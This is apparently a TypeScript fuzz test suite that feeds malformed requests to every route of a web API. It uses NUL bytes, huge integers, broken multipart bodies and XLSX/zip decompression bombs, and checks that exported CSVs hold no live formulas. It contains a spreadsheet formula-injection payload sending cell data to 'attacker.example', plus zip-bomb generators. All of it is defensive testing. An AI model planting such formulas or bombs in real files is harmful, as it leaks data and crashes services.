import { parse } from 'csv-parse/sync';
import { CSRF_HEADER, CSRF_HEADER_VALUE } from '#contract/schemas/csrfHeader.js';
import type { App, RouteAccess } from '../../server/src/types.js';
import { DEMO_APP_KEYS } from '../../server/src/db/seed/appKeys.js';
import { APP_KEY_HEADER } from '#contract/schemas/usage.js';
import { DEMO, buildTestApp, login, type Envelope } from './helpers.js';
import { repeatedDeflated, xlsxOf } from '../support/zipCraft.mjs';
import { demoBuildings } from './routes/location/poiFixtures.js';

/**
 * Issue 10, no 5xx from any input: every /api route the server registers (read from the server, like the
 * authorization matrix, with its request schema from the OpenAPI document the server generates) gets
 * malformed variants as the platform admin (who passes every access check, so the input itself is judged).
 * No answer may be a 5xx or 10000; a 10005 names its fields; the variants that are certainly wrong
 * (NUL, integers past the database's range, broken JSON) must be 10005.
 */

type JsonSchema = { type?: string | string[]; properties?: Record<string, JsonSchema>; items?: JsonSchema; anyOf?: JsonSchema[]; required?: string[] };
interface Operation {
  parameters?: Array<{ in: 'query' | 'path'; name: string; schema: JsonSchema }>;
  requestBody?: { content: Record<string, { schema?: JsonSchema }> };
}
interface Variant {
  name: string;
  /** The answer must be 10005: the input is wrong whatever the route. */
  invalid: boolean;
  query?: Record<string, string>;
  path?: (name: string) => string;
  body?: unknown;
  raw?: { payload: string | Buffer; contentType: string };
  /** Issue 31: sent for the demo mall (buildingId in the query), so that the body itself is read. */
  inMall?: boolean;
}

// Issue 31: the spreadsheet bombs every route that takes a file as its body is sent (made once: ~2.5 MB in all).
const SHEET = 'xl/worksheets/sheet1.xml';
const BOMBS: Array<[string, Buffer]> = [
  ['an XLSX whose sheet inflates to 2 GiB', xlsxOf({ [SHEET]: repeatedDeflated('<worksheet><sheetData>', ' ', 2048, '</sheetData></worksheet>') })],
  [
    'an XLSX of 2.7 million rows',
    xlsxOf({ [SHEET]: repeatedDeflated('<worksheet><sheetData>', '<row><c t="inlineStr"><is><t>x</t></is></c></row>', 128, '') }),
  ],
  ['an XLSX nested a million levels deep', xlsxOf({ [SHEET]: repeatedDeflated('<worksheet><sheetData>', '<a>', 8, '') })],
  ['a zip of one file inflating to 300 MB', xlsxOf({ 'unit.geojson': repeatedDeflated('', '\u0000', 300, '') })],
];
/** Issue 31 §2: text a spreadsheet would run, in every body text; no CSV the server writes may carry it live. */
const FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"x")';

const HUGE_INT = '100000000000000000000';
const typesOf = (s: JsonSchema | undefined): string[] => (s ? [s.type ?? []].flat().concat((s.anyOf ?? []).flatMap(typesOf)) : []);
const fieldsOf = (s: JsonSchema | undefined) => Object.entries(s?.properties ?? {});
const fill = (schema: JsonSchema | undefined, value: (field: JsonSchema) => unknown | undefined) =>
  Object.fromEntries(fieldsOf(schema).flatMap(([name, f]) => (value(f) === undefined ? [] : [[name, value(f)]])));
const ofType = (type: string, v: unknown) => (f: JsonSchema) => (typesOf(f).includes(type) ? v : undefined);

/** At least 10 malformed variants of one route's input, from its schema. */
function variants(op: Operation, method: string): Variant[] {
  const query = op.parameters?.filter((p) => p.in === 'query') ?? [];
  const querySchema: JsonSchema = { properties: Object.fromEntries(query.map((p) => [p.name, p.schema])) };
  const bodySchema = op.requestBody?.content['application/json']?.schema;
  const takesJson = method === 'POST';
  const strings = (v: string) => ({ ...fill(querySchema, ofType('string', v)) }) as Record<string, string>;
  const ints = (v: string) => ({ ...fill(querySchema, ofType('integer', v)) }) as Record<string, string>;
  const hasQueryString = Object.keys(strings('x')).length > 0;
  const hasQueryInt = Object.keys(ints('1')).length > 0;
  const bodyStrings = fill(bodySchema, ofType('string', 'a\u0000b'));
  const bodyInts = fill(bodySchema, ofType('integer', 1e20));
  const out: Variant[] = [
    { name: 'nothing at all', invalid: false },
    {
      name: 'wrong types in the query',
      invalid: false,
      query: Object.fromEntries(query.map((p) => [p.name, typesOf(p.schema).includes('string') ? '' : 'not-a-number'])),
    },
    { name: 'huge strings in the query', invalid: false, query: strings('x'.repeat(5000)) },
    { name: 'NUL in the query', invalid: hasQueryString, query: strings('a\u0000b') },
    { name: 'integers past the range in the query', invalid: hasQueryInt, query: ints(HUGE_INT) },
    { name: 'negative integers past the range in the query', invalid: hasQueryInt, query: ints(`-${HUGE_INT}`) },
    { name: 'extra query fields', invalid: false, query: { __proto__x: '1', constructor: 'x', 'a[b]': 'c' } },
    { name: 'path parameters past the range', invalid: false, path: () => HUGE_INT },
    { name: 'NUL in the path', invalid: false, path: () => '%00' },
  ];
  if (takesJson) {
    out.push(
      { name: 'broken JSON', invalid: true, raw: { payload: '{"a":', contentType: 'application/json' } },
      { name: 'wrong content type', invalid: false, raw: { payload: 'hello', contentType: 'text/plain' } },
      { name: 'an array for the body object', invalid: false, body: [1, 2] },
      { name: 'a string for the body', invalid: false, body: 'just text' },
      { name: 'wrong types in the body', invalid: false, body: fill(bodySchema, (f) => (typesOf(f).includes('string') ? { o: 1 } : 'x')) },
      { name: 'arrays for objects in the body', invalid: false, body: fill(bodySchema, (f) => (typesOf(f).includes('object') ? [1] : undefined)) },
      { name: 'NUL in every body text', invalid: Object.keys(bodyStrings).length > 0, body: bodyStrings },
      { name: 'integers past the range in the body', invalid: Object.keys(bodyInts).length > 0, body: bodyInts },
      { name: 'huge strings in the body', invalid: false, body: fill(bodySchema, ofType('string', 'x'.repeat(100_000))) },
      { name: 'extra fields in the body', invalid: false, body: { extra: 1, nested: { deep: [[[[[]]]]] } } },
      { name: 'issue 31: formula text in every body text', invalid: false, body: fill(bodySchema, ofType('string', FORMULA)) },
    );
  }
  const fileTypes = Object.keys(op.requestBody?.content ?? {}).filter((t) => t !== 'application/json' && !t.startsWith('multipart/'));
  const inMall = query.some((p) => p.name === 'buildingId');
  for (const [name, payload] of fileTypes.length ? BOMBS : [])
    out.push({ name: `issue 31: ${name}`, invalid: inMall, inMall, raw: { payload, contentType: fileTypes[0]! } });
  if (op.requestBody?.content['multipart/form-data']) {
    // Issue 13: a route that takes a file gets broken multipart bodies too.
    const part = (head: string) => `--fz\r\nContent-Disposition: form-data; ${head}\r\n\r\n`;
    out.push(
      ...BOMBS.map(([name, bomb]): Variant => ({
        name: `issue 31: ${name} as the file`,
        invalid: false,
        raw: {
          payload: Buffer.concat([Buffer.from(part('name="file"; filename="a.xlsx"')), bomb, Buffer.from('\r\n--fz--\r\n')]),
          contentType: 'multipart/form-data; boundary=fz',
        },
      })),
      { name: 'multipart without a boundary', invalid: true, raw: { payload: 'x', contentType: 'multipart/form-data' } },
      {
        name: 'a truncated multipart body',
        invalid: true,
        raw: { payload: `${part('name="file"; filename="a.png"')}\x89PNG`, contentType: 'multipart/form-data; boundary=fz' },
      },
      {
        name: 'multipart with NUL in the file name',
        invalid: false,
        raw: { payload: `${part('name="file"; filename="a\u0000.png"')}x\r\n--fz--\r\n`, contentType: 'multipart/form-data; boundary=fz' },
      },
      {
        name: 'multipart with a huge field',
        invalid: false,
        raw: { payload: `${part('name="note"')}${'x'.repeat(100_000)}\r\n--fz--\r\n`, contentType: 'multipart/form-data; boundary=fz' },
      },
    );
  }
  if (!takesJson) {
    out.push({ name: 'a body on a GET', invalid: false, raw: { payload: '{"buildingId":1}', contentType: 'application/json' } });
  }
  return out;
}

const keyOf = (r: { method: string; url: string }) => `${r.method} ${r.url}`;
const probe = await buildTestApp();
await probe.ready();
const ROUTES: RouteAccess[] = [...probe.routeAccess]
  .filter((r) => !r.url.endsWith('/logout'))
  .concat(probe.routeAccess.filter((r) => r.url.endsWith('/logout')));
const DOC = probe.swagger() as { paths: Record<string, Record<string, Operation>> };
await probe.close();
const operationOf = (r: RouteAccess): Operation => DOC.paths[r.url.replace(/:(\w+)/g, '{$1}')]?.[r.method.toLowerCase()] ?? {};
const CASES = ROUTES.flatMap((r) => variants(operationOf(r), r.method).map((v) => [`${keyOf(r)}: ${v.name}`, r, v] as const));
console.log(`fuzz: ${ROUTES.length} routes, ${CASES.length} malformed requests`);

describe(`issue 10 fuzz: ${ROUTES.length} routes, ${CASES.length} malformed requests, no 5xx`, () => {
  let app: App;
  let cookie: string;
  let mall: number;
  beforeAll(async () => {
    app = await buildTestApp({ mail: { outboxDir: `.tmp/fuzz-outbox-${process.pid}` } });
    await app.ready();
    cookie = await login(app, DEMO.platform);
    mall = (await demoBuildings(app.db)).mall;
  });
  afterAll(async () => app.close());

  it('every registered route has at least 10 variants', () => {
    for (const route of ROUTES) expect(CASES.filter(([, r]) => r === route).length, keyOf(route)).toBeGreaterThanOrEqual(10);
  });

  it.each(CASES)('%s', async (_name, route, variant) => {
    const path = route.url.replace(/:(\w+)/g, (_, name: string) => variant.path?.(name) ?? '1');
    const search = new URLSearchParams({ ...(variant.inMall ? { buildingId: String(mall) } : {}), ...variant.query }).toString();
    // Issue 14: an app's call carries its key instead of the admin's cookie, so that its input is judged.
    const base = { cookie, [CSRF_HEADER]: CSRF_HEADER_VALUE, ...(route.auth === 'appKey' ? { [APP_KEY_HEADER]: DEMO_APP_KEYS['demo-malls'] } : {}) };
    const res = await app.inject({
      method: route.method as 'GET' | 'POST',
      url: search ? `${path}?${search}` : path,
      headers: { ...base, ...(variant.raw ? { 'content-type': variant.raw.contentType } : {}) },
      ...(variant.raw
        ? { payload: variant.raw.payload }
        : variant.body !== undefined
          ? { payload: JSON.stringify(variant.body), headers: { ...base, 'content-type': 'application/json' } }
          : {}),
    });
    const seen = `${keyOf(route)} ${variant.name} -> HTTP ${res.statusCode} ${res.body.slice(0, 300)}`;
    expect(res.statusCode, seen).toBeLessThan(500);
    if (!res.headers['content-type']?.toString().startsWith('application/json')) return;
    const envelope = res.json<Envelope>();
    expect(envelope.code, seen).not.toBe(10000);
    if (variant.invalid) expect(envelope.code, seen).toBe(10005);
    if (envelope.code === 10005) {
      expect(envelope.errors?.length, seen).toBeGreaterThan(0);
      for (const error of envelope.errors ?? []) expect(error.field, seen).toMatch(/\S/);
    }
  });

  it('issue 31 §2: after the fuzz, no CSV the server writes holds a live formula cell', async () => {
    const csvRoutes = ROUTES.filter((r) => r.method === 'GET' && JSON.stringify(operationOf(r)).includes('text/csv'));
    expect(csvRoutes.length).toBeGreaterThan(0);
    // The fuzz ends with the logout routes: sign in again.
    const session = await login(app, DEMO.platform);
    for (const route of csvRoutes) {
      const res = await app.inject({ method: 'GET', url: `${route.url}?buildingId=${mall}`, headers: { cookie: session, [CSRF_HEADER]: CSRF_HEADER_VALUE } });
      expect(res.statusCode, keyOf(route)).toBe(200);
      const cells = parse(res.body, { bom: true, relax_column_count: true }) as string[][];
      for (const cell of cells.flat()) expect(cell, keyOf(route)).not.toMatch(/^[=+@\t\r\uFF1D\uFF0B\uFF20]|^[-\uFF0D](?!\d+(\.\d+)?$)/);
    }
  });
});
